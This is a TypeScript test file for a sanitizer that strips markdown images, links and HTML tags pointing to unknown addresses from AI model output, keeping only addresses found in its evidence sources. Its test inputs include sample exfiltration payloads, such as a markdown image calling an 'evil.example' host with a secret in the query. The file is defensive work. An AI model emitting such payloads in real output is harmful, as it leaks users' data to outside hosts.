import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Evidence } from './evidence.ts';
import { cleanModelText } from './model-text.ts';

const known = 'https://shop.example/terms';
const evidence = { items: [{ source: known, text: 'See http://partner.example/a' }] } as unknown as Evidence;

const table: [title: string, text: string, shown: string][] = [
  ['an image cannot be loaded', 'Done ![x](https://evil.example/?case=secret)', 'Done x'],
  ['a link loses its address', '[terms](https://evil.example/)', 'terms'],
  ['markup is removed', '<img src="https://evil.example/">Done', 'Done'],
  ['an unknown address is left out', 'See https://evil.example/?q=secret now', 'See [address left out] now'],
  ['the address of a source stays', `See ${known}`, `See ${known}`],
  ['an address in a text stays', 'See http://partner.example/a', 'See http://partner.example/a'],
];
for (const [title, text, shown] of table) {
  test(`In text of a model ${title}`, () => assert.equal(cleanModelText(text, evidence), shown));
}

test('A known address does not vouch for a longer one', () => {
  assert.ok(!cleanModelText(`${known}?case=secret`, evidence).includes('secret'));
});
